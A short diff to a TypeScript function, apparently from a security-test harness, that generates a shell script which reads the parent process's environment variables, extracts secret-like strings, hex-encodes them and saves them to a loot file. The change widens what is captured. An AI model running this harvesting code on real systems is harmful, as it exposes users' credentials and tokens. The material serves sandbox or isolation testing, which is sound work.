@@ -129,7 +129,7 @@ export function attackScript(options: {
   const files = options.files.map((f) => `"${f}"`).join(' ');
   return String.raw`L=$(mktemp)
 D="$PWD/${LOOT_FILE}"
-loot() { tr -c 'A-Za-z0-9+/=_-' '\n' | sed 's/^[A-Za-z_][A-Za-z0-9_-]*=//' | awk 'length >= 20 && !/^\// && !/^[0-9a-f]+$/' >> "$L"; }
+loot() { tr -c 'A-Za-z0-9+/=_-' '\n' | sed 's/^[A-Za-z_][A-Za-z0-9_-]*=//' | awk 'length >= 20' >> "$L"; }
 flush() { cat "$L" >> "$D" 2>/dev/null; sort -u "$L" | while IFS= read -r v; do printf '%s' "$v" | od -An -tx1 | tr -d ' \n'; echo; done; : > "$L"; }
 echo "attacker uid $(id -u) ppid $PPID"
 cat /proc/$PPID/environ 2>/dev/null | loot; flush
